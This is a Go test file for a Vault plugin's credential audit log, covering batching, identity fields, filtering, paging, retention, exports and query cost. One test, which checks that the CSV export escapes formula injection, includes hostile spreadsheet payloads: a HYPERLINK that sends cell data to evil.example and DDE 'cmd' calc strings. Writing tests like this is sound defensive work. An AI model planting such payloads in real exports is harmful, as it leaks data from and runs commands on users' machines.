package nebula

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/hashicorp/vault/sdk/logical"
	"github.com/stretchr/testify/require"
)

// auditEvents queries the audit path and returns its events.
func (e *testEnv) auditEvents(tb testing.TB, filter map[string]any) ([]map[string]any, string) {
	tb.Helper()
	resp := e.mustRequest(tb, logical.ReadOperation, "audit", filter)
	return resp.Data["events"].([]map[string]any), resp.Data["next"].(string)
}

func TestTokenReadsAreAuditedWithoutSynchronousWrites(t *testing.T) {
	e := newTestBackend(t)
	e.mustRequest(t, logical.CreateOperation, "creds/k", validCreds["api_key"])
	e.mustRequest(t, logical.ReadOperation, "token/k", nil) // warm the cache
	puts := e.storage.puts.Load()

	const reads = 10_000
	req := &logical.Request{Operation: logical.ReadOperation, Path: "token/k", Storage: e.storage}
	for range reads {
		_, err := e.b.HandleRequest(context.Background(), req)
		require.NoError(t, err)
	}
	require.Equal(t, puts, e.storage.puts.Load(), "token reads write nothing synchronously")
	require.Equal(t, reads+2, e.b.auditLog.pending(), "create, warm-up read and the reads")

	require.NoError(t, e.b.auditLog.flush(context.Background(), e.storage))
	require.Less(t, e.storage.puts.Load()-puts, int64(20), "events are written in batches")
	var count int
	cursor := ""
	for {
		events, next := e.auditEvents(t, map[string]any{"action": "read_token", "limit": 5000, "cursor": cursor})
		count += len(events)
		if next == "" {
			break
		}
		cursor = next
	}
	require.Equal(t, reads+1, count, "every read is in the trail")
	require.Zero(t, e.b.auditLog.pending())
}

func TestAuditRecordsCallerAndNoSecrets(t *testing.T) {
	e := newTestBackend(t)
	e.mustRequest(t, logical.CreateOperation, "creds/k", validCreds["api_key"])
	e.mustRequest(t, logical.UpdateOperation, "token/k", map[string]any{"execution_id": "ex-9", "workflow_id": "wf-1", "user_id": "alice"})
	_, err := e.request(t, logical.ReadOperation, "token/missing", nil)
	require.Error(t, err)
	e.mustRequest(t, logical.UpdateOperation, "rotate/k", map[string]any{"api_key": "next-key"})
	e.mustRequest(t, logical.DeleteOperation, "creds/k", nil)

	events, _ := e.auditEvents(t, nil)
	actions := []string{}
	for _, ev := range events {
		actions = append(actions, ev["action"].(string))
	}
	require.Equal(t, []string{"delete", "rotate", "destroy_version", "read_token", "read_token", "create"}, actions, "newest first")
	read := events[4]
	require.Equal(t, "alice", read["user"])
	require.Equal(t, "alice", read["user_id"])
	require.Equal(t, "ex-9", read["execution_id"])
	require.Equal(t, true, read["success"])
	failed := events[3]
	require.Equal(t, false, failed["success"])
	require.True(t, strings.HasPrefix(failed["error"].(string), "not_found: "))

	raw, err := json.Marshal(events)
	require.NoError(t, err)
	require.NotContains(t, string(raw), secretKeyValue)
	require.NotContains(t, string(raw), "next-key")
}

func TestAuditFiltersAndPaging(t *testing.T) {
	e := newTestBackend(t)
	start := e.clock.Now()
	for i := range 3 {
		e.mustRequest(t, logical.CreateOperation, fmt.Sprintf("creds/c%d", i), validCreds["api_key"])
		e.clock.Advance(time.Hour)
	}
	for range 5 {
		e.mustRequest(t, logical.ReadOperation, "token/c1", nil)
		e.clock.Advance(time.Minute)
	}
	events, _ := e.auditEvents(t, map[string]any{"credential": "c1"})
	require.Len(t, events, 6)
	events, _ = e.auditEvents(t, map[string]any{"action": "create"})
	require.Len(t, events, 3)
	events, _ = e.auditEvents(t, map[string]any{"since": start.Add(30 * time.Minute).Format(time.RFC3339), "until": start.Add(90 * time.Minute).Format(time.RFC3339)})
	require.Len(t, events, 1)
	require.Equal(t, "c1", events[0]["credential"])
	events, _ = e.auditEvents(t, map[string]any{"user": "nobody"})
	require.Empty(t, events)

	var pages [][]map[string]any
	cursor := ""
	for {
		page, next := e.auditEvents(t, map[string]any{"limit": 3, "cursor": cursor})
		pages = append(pages, page)
		if next == "" {
			break
		}
		cursor = next
	}
	require.Len(t, pages, 3)
	var ids []string
	for _, p := range pages {
		for _, ev := range p {
			ids = append(ids, ev["id"].(string))
		}
	}
	require.Len(t, ids, 8)
	require.IsDecreasing(t, ids, "pages continue newest first without repeats")

	_, err := e.request(t, logical.ReadOperation, "audit", map[string]any{"limit": 0})
	requireKind(t, err, KindInvalidInput, "limit")
}

func TestAuditRetention(t *testing.T) {
	e := newTestBackend(t)
	e.mustRequest(t, logical.UpdateOperation, "config", map[string]any{"audit_retention": "48h"})
	e.mustRequest(t, logical.CreateOperation, "creds/old", validCreds["api_key"])
	e.clock.Advance(72 * time.Hour)
	e.mustRequest(t, logical.CreateOperation, "creds/new", validCreds["api_key"])
	require.NoError(t, e.b.auditLog.flush(context.Background(), e.storage))
	e.runPeriodic(t)
	events, _ := e.auditEvents(t, map[string]any{"action": "create"})
	require.Len(t, events, 1)
	require.Equal(t, "new", events[0]["credential"])
}

func TestAuditSyncWritesOnTheRequest(t *testing.T) {
	e := newTestBackend(t)
	e.mustRequest(t, logical.UpdateOperation, "config", map[string]any{"audit_sync": true})
	e.mustRequest(t, logical.CreateOperation, "creds/k", validCreds["api_key"])
	require.Zero(t, e.b.auditLog.pending())
	e.mustRequest(t, logical.UpdateOperation, "config", map[string]any{"audit_enabled": false})
	e.mustRequest(t, logical.ReadOperation, "token/k", nil)
	events, _ := e.auditEvents(t, map[string]any{"action": "read_token"})
	require.Empty(t, events, "audit_enabled=false records nothing")
}

func exportAudit(tb testing.TB, e *testEnv, format string) ([]byte, map[string]any) {
	tb.Helper()
	resp := e.mustRequest(tb, logical.UpdateOperation, "audit/export", map[string]any{"format": format})
	report, err := base64.StdEncoding.DecodeString(resp.Data["report"].(string))
	require.NoError(tb, err)
	return report, resp.Data
}

func TestAuditExports(t *testing.T) {
	e := newTestBackend(t)
	e.mustRequest(t, logical.CreateOperation, "creds/export-me", validCreds["api_key"])
	e.mustRequest(t, logical.UpdateOperation, "token/export-me", map[string]any{"execution_id": "exec-42"})

	report, data := exportAudit(t, e, "json")
	require.Equal(t, "application/json", data["content_type"])
	require.Equal(t, 2, data["count"])
	var events []auditEvent
	require.NoError(t, json.Unmarshal(report, &events))
	require.Len(t, events, 2)
	require.Equal(t, "exec-42", events[0].ExecutionID)

	report, data = exportAudit(t, e, "csv")
	require.Equal(t, "text/csv", data["content_type"])
	rows, err := csv.NewReader(bytes.NewReader(report)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 3)
	require.Equal(t, csvHeader, rows[0])
	require.Equal(t, "read_token", rows[1][2])
	require.Equal(t, "exec-42", rows[1][7])

	report, data = exportAudit(t, e, "pdf")
	require.Equal(t, "application/pdf", data["content_type"])
	require.True(t, bytes.HasPrefix(report, []byte("%PDF-")))
	text := pdfText(t, report)
	for _, want := range []string{"nebula-credential audit report", "export-me", "read_token", "exec-42", "create"} {
		require.Contains(t, text, want)
	}
	require.NotContains(t, text, secretKeyValue)

	_, err = e.request(t, logical.UpdateOperation, "audit/export", map[string]any{"format": "xml"})
	requireKind(t, err, KindInvalidInput, "format")
}

// pdfText extracts a PDF's text with pdftotext (Debian's poppler-utils,
// which make test installs).
func pdfText(tb testing.TB, pdf []byte) string {
	tb.Helper()
	bin, err := exec.LookPath("pdftotext")
	require.NoError(tb, err, "pdftotext (poppler-utils) is needed to check PDF exports")
	path := filepath.Join(tb.TempDir(), "report.pdf")
	require.NoError(tb, os.WriteFile(path, pdf, 0o600))
	out, err := exec.Command(bin, "-layout", path, "-").Output()
	require.NoError(tb, err, "pdftotext could not open the report")
	return string(out)
}

func TestAuditFlusherRunsFromInitializeAndStopsOnClean(t *testing.T) {
	e := newTestBackend(t)
	require.NoError(t, e.b.Initialize(context.Background(), &logical.InitializationRequest{Storage: e.storage}))
	e.mustRequest(t, logical.CreateOperation, "creds/k", validCreds["api_key"])
	require.Eventually(t, func() bool { return e.b.auditLog.pending() == 0 }, 5*time.Second, 20*time.Millisecond,
		"the background flusher writes buffered events")

	// Events recorded just before Clean are written by the final flush.
	e.mustRequest(t, logical.ReadOperation, "token/k", nil)
	e.b.Cleanup(context.Background())
	require.Zero(t, e.b.auditLog.pending())
	events, _, err := queryAudit(context.Background(), e.storage, auditFilter{Action: "read_token", Limit: 10})
	require.NoError(t, err)
	require.Len(t, events, 1)
}

// blockingPuts is storage whose puts wait until released, then fail (or
// store, with store set): a flush that is in progress while requests keep
// adding events.
type blockingPuts struct {
	logical.Storage
	entered chan struct{} // receives when a put starts
	release chan struct{} // a put returns when this receives
	store   bool          // puts store the entry instead of failing
}

func (s *blockingPuts) Put(ctx context.Context, e *logical.StorageEntry) error {
	s.entered <- struct{}{}
	<-s.release
	if s.store {
		return s.Storage.Put(ctx, e)
	}
	return errInjected
}

// Item 14: the buffer's bound holds on every append, also for the events
// of a failed flush, and what is dropped is counted.
func TestAuditBufferBoundHoldsWhileStorageFails(t *testing.T) {
	e := newTestBackend(t)
	const perCycle, cycles = 50_000, 4
	appendEvents := func(n int) {
		for range n {
			e.b.auditLog.add(auditEvent{Time: e.clock.Now(), Action: actionReadToken, Credential: "k", Success: true})
		}
	}
	appendEvents(perCycle)
	s := &blockingPuts{Storage: e.storage, entered: make(chan struct{}), release: make(chan struct{})}
	for cycle := range cycles {
		done := make(chan error, 1)
		go func() { done <- e.b.auditLog.flush(context.Background(), s) }()
		select {
		case <-s.entered:
		case <-time.After(10 * time.Second):
			t.Fatalf("cycle %d: the flush did not write", cycle)
		}
		appendEvents(perCycle) // requests go on while storage hangs
		close(s.release)
		select {
		case err := <-done:
			require.Error(t, err)
		case <-time.After(10 * time.Second):
			t.Fatalf("cycle %d: the flush did not return", cycle)
		}
		s.release = make(chan struct{})
		require.LessOrEqual(t, e.b.auditLog.pending(), auditMaxBuffer, "cycle %d: the bound holds", cycle)
	}
	appended := perCycle * (cycles + 1)
	require.Equal(t, auditMaxBuffer, e.b.auditLog.pending())
	m := e.mustRequest(t, logical.ReadOperation, "metrics", nil).Data
	require.EqualValues(t, appended-auditMaxBuffer, m["audit_dropped"], "every dropped event is counted")

	status, issues := healthOf(t, e)
	require.Equal(t, "degraded", status)
	require.ElementsMatch(t, []string{"audit_dropped", "audit_write_failed"}, issues)

	// Storage recovers: everything kept is written; the issue stays a day.
	require.NoError(t, e.b.auditLog.flush(context.Background(), e.storage))
	require.Zero(t, e.b.auditLog.pending())
	_, issues = healthOf(t, e)
	require.Equal(t, []string{"audit_dropped"}, issues)
	e.clock.Advance(25 * time.Hour)
	status, issues = healthOf(t, e)
	require.Equal(t, "healthy", status)
	require.Empty(t, issues)
	require.EqualValues(t, appended-auditMaxBuffer, e.mustRequest(t, logical.ReadOperation, "metrics", nil).Data["audit_dropped"],
		"the counter is monotonic")
}

// Events an append drops from the batch being written are not lost when
// that write succeeds, so they are not counted.
func TestAuditDropsDuringASuccessfulWriteAreNotCounted(t *testing.T) {
	e := newTestBackend(t)
	appendEvents := func(n int) {
		for range n {
			e.b.auditLog.add(auditEvent{Time: e.clock.Now(), Action: actionReadToken, Credential: "k", Success: true})
		}
	}
	appendEvents(auditMaxBuffer)
	s := &blockingPuts{Storage: e.storage, entered: make(chan struct{}), release: make(chan struct{}), store: true}
	done := make(chan error, 1)
	go func() { done <- e.b.auditLog.flush(context.Background(), s) }()
	select {
	case <-s.entered:
	case <-time.After(10 * time.Second):
		t.Fatal("the flush did not write")
	}
	appendEvents(10) // drops 10 events of the batch being written
	close(s.release)
	go func() { // the rest of the flush's batches
		for range s.entered {
		}
	}()
	select {
	case err := <-done:
		require.NoError(t, err)
	case <-time.After(30 * time.Second):
		t.Fatal("the flush did not return")
	}
	close(s.entered)
	dropped, _, failing := e.b.auditLog.droppedStats()
	require.Zero(t, dropped, "the dropped events were stored")
	require.False(t, failing)
	require.Equal(t, 10, e.b.auditLog.pending(), "only the events added after the flush started remain")
	events, _, err := queryAudit(context.Background(), e.storage, auditFilter{Limit: 1, MaxReads: 1000, MaxScanned: auditMaxBuffer + 1})
	require.NoError(t, err)
	require.Len(t, events, 1)
}

// Item 17: the caller's claims do not replace the Vault identity.
func TestAuditKeepsVaultIdentityBesideCallerClaims(t *testing.T) {
	e := newTestBackend(t)
	e.mustRequest(t, logical.CreateOperation, "creds/k", validCreds["api_key"])
	_, err := e.b.HandleRequest(context.Background(), &logical.Request{
		Operation: logical.UpdateOperation, Path: "token/k", Storage: e.storage,
		DisplayName: "token-bob", EntityID: "e-1", ID: "req-7",
		Data: map[string]any{"user_id": "alice", "execution_id": "ex-1", "workflow_id": "wf-1"},
	})
	require.NoError(t, err)

	events, _ := e.auditEvents(t, map[string]any{"action": "read_token"})
	require.Len(t, events, 1)
	ev := events[0]
	require.Equal(t, "token-bob", ev["actor"])
	require.Equal(t, "e-1", ev["entity_id"])
	require.Equal(t, "alice", ev["user_id"])
	require.Equal(t, "ex-1", ev["execution_id"])
	require.Equal(t, "wf-1", ev["workflow_id"])
	require.Equal(t, "req-7", ev["request_id"], "the Vault request id matches the audit device's entry")

	events, _ = e.auditEvents(t, map[string]any{"user": "token-bob", "action": "read_token"})
	require.Len(t, events, 1, "user matches the Vault identity")
	events, _ = e.auditEvents(t, map[string]any{"user": "alice"})
	require.Empty(t, events, "a claim is not a Vault identity")
	events, _ = e.auditEvents(t, map[string]any{"user_id": "alice"})
	require.Len(t, events, 1, "user_id matches the claim")

	report, _ := exportAudit(t, e, "csv")
	rows, err := csv.NewReader(bytes.NewReader(report)).ReadAll()
	require.NoError(t, err)
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	require.Equal(t, "read_token", rows[1][col["action"]])
	require.Equal(t, "token-bob", rows[1][col["actor"]])
	require.Equal(t, "e-1", rows[1][col["entity_id"]])
	require.Equal(t, "alice", rows[1][col["user_id"]])
	require.Equal(t, "req-7", rows[1][col["request_id"]])

	report, _ = exportAudit(t, e, "json")
	var exported []map[string]any
	require.NoError(t, json.Unmarshal(report, &exported))
	require.Equal(t, "token-bob", exported[0]["actor"])
	require.Equal(t, "alice", exported[0]["user_id"])

	text := pdfText(t, func() []byte { r, _ := exportAudit(t, e, "pdf"); return r }())
	require.Contains(t, text, "token-bob")
	require.Contains(t, text, "alice")
}

// Item 18: caller-controlled cells never start a spreadsheet formula.
func TestAuditCSVNeutralisesFormulas(t *testing.T) {
	e := newTestBackend(t)
	e.mustRequest(t, logical.CreateOperation, "creds/k", validCreds["api_key"])
	hostile := map[string]string{
		"execution_id": `=HYPERLINK("https://evil.example/?x="&A1,"open")`,
		"workflow_id":  "+1+cmd|' /C calc'!A0",
		"user_id":      "@SUM(1+1)*cmd|' /C calc'!A0",
	}
	data := map[string]any{}
	for k, v := range hostile {
		data[k] = v
	}
	e.mustRequest(t, logical.UpdateOperation, "token/k", data)
	for _, v := range []string{"-2+3", "\t=1", "\r=1"} {
		e.mustRequest(t, logical.UpdateOperation, "token/k", map[string]any{"execution_id": v})
	}

	report, _ := exportAudit(t, e, "csv")
	rows, err := csv.NewReader(bytes.NewReader(report)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 6)
	for _, row := range rows {
		for _, cell := range row {
			require.False(t, cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])), "cell %q starts a formula", cell)
		}
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	oldest := rows[len(rows)-1] // newest first: the hostile read is last but the create
	if oldest[col["action"]] == "create" {
		oldest = rows[len(rows)-2]
	}
	for field, v := range hostile {
		require.Equal(t, "'"+v, oldest[col[field]], "the value is kept, as text")
	}
}

// countingStorage counts the reads (gets and lists) of a query.
type countingStorage struct {
	logical.Storage
	reads atomic.Int64
}

func (s *countingStorage) Get(ctx context.Context, k string) (*logical.StorageEntry, error) {
	s.reads.Add(1)
	return s.Storage.Get(ctx, k)
}

func (s *countingStorage) List(ctx context.Context, p string) ([]string, error) {
	s.reads.Add(1)
	return s.Storage.List(ctx, p)
}

// Item 19: a query's cost is bounded whatever the history holds; the
// cursor continues further back.
func TestAuditQueryCostIsBounded(t *testing.T) {
	e := newTestBackend(t)
	now := e.clock.Now()
	const hours = 30 * 24
	for h := hours - 1; h >= 0; h-- {
		cred := "busy"
		if h == hours-1 {
			cred = "old"
		}
		e.b.auditLog.add(auditEvent{Time: now.Add(-time.Duration(h) * time.Hour), Action: actionReadToken, Credential: cred, Success: true})
	}
	require.NoError(t, e.b.auditLog.flush(context.Background(), e.storage))
	s := &countingStorage{Storage: e.storage}
	var searchedBackTo any
	query := func(filter map[string]any) ([]map[string]any, string, int64) {
		t.Helper()
		before := s.reads.Load()
		resp, err := e.b.HandleRequest(context.Background(), &logical.Request{
			Operation: logical.ReadOperation, Path: "audit", Storage: s, Data: filter,
		})
		require.NoError(t, err)
		require.False(t, resp.IsError(), "%v", resp.Error())
		searchedBackTo = resp.Data["searched_back_to"]
		return resp.Data["events"].([]map[string]any), resp.Data["next"].(string), s.reads.Load() - before
	}

	const maxReads = 1000 // storage gets and lists one query may do
	events, next, reads := query(map[string]any{"credential": "nobody", "limit": 1})
	require.Empty(t, events)
	require.LessOrEqual(t, reads, int64(maxReads), "a query that matches nothing reads a bounded part of history")
	require.NotEmpty(t, next, "and says where to continue")
	require.NotNil(t, searchedBackTo, "and how far back it searched")
	back, err := time.Parse(time.RFC3339Nano, searchedBackTo.(string))
	require.NoError(t, err)
	require.True(t, back.After(now.Add(-hours*time.Hour)) && back.Before(now), "searched back to %s", back)

	var found []map[string]any
	cursor := ""
	pages := 0
	for page := 0; page < 2*hours/maxReads+4 && len(found) == 0; page++ {
		pages++
		events, next, reads = query(map[string]any{"credential": "old", "limit": 1, "cursor": cursor})
		require.LessOrEqual(t, reads, int64(maxReads), "page %d", page)
		found = events
		if next == "" {
			break
		}
		cursor = next
	}
	require.Len(t, found, 1, "paging reaches the oldest event")
	require.Equal(t, "old", found[0]["credential"])
	require.Greater(t, pages, 1, "the cursor carried the search back")

	// since narrows what is read: the last day only.
	_, next, reads = query(map[string]any{"credential": "nobody", "since": now.Add(-24 * time.Hour).Format(time.RFC3339)})
	require.Empty(t, next, "the day was searched in full")
	require.LessOrEqual(t, reads, int64(1+2*25))
}

// Item 19: full batches bound a query by the events it decodes.
func TestAuditQueryBoundsDecodedEvents(t *testing.T) {
	e := newTestBackend(t)
	for range 60 * auditBatchSize {
		e.b.auditLog.add(auditEvent{Time: e.clock.Now(), Action: actionReadToken, Credential: "busy", Success: true})
	}
	require.NoError(t, e.b.auditLog.flush(context.Background(), e.storage))
	gets := e.storage.gets.Load()
	events, next := e.auditEvents(t, map[string]any{"credential": "nobody", "limit": 1})
	require.Empty(t, events)
	require.NotEmpty(t, next)
	require.LessOrEqual(t, e.storage.gets.Load()-gets, int64(50_000/auditBatchSize+1), "batches read: about 50,000 events")
	events, next = e.auditEvents(t, map[string]any{"credential": "nobody", "limit": 1, "cursor": next})
	require.Empty(t, events)
	require.Empty(t, next, "the second page finishes the search")
}
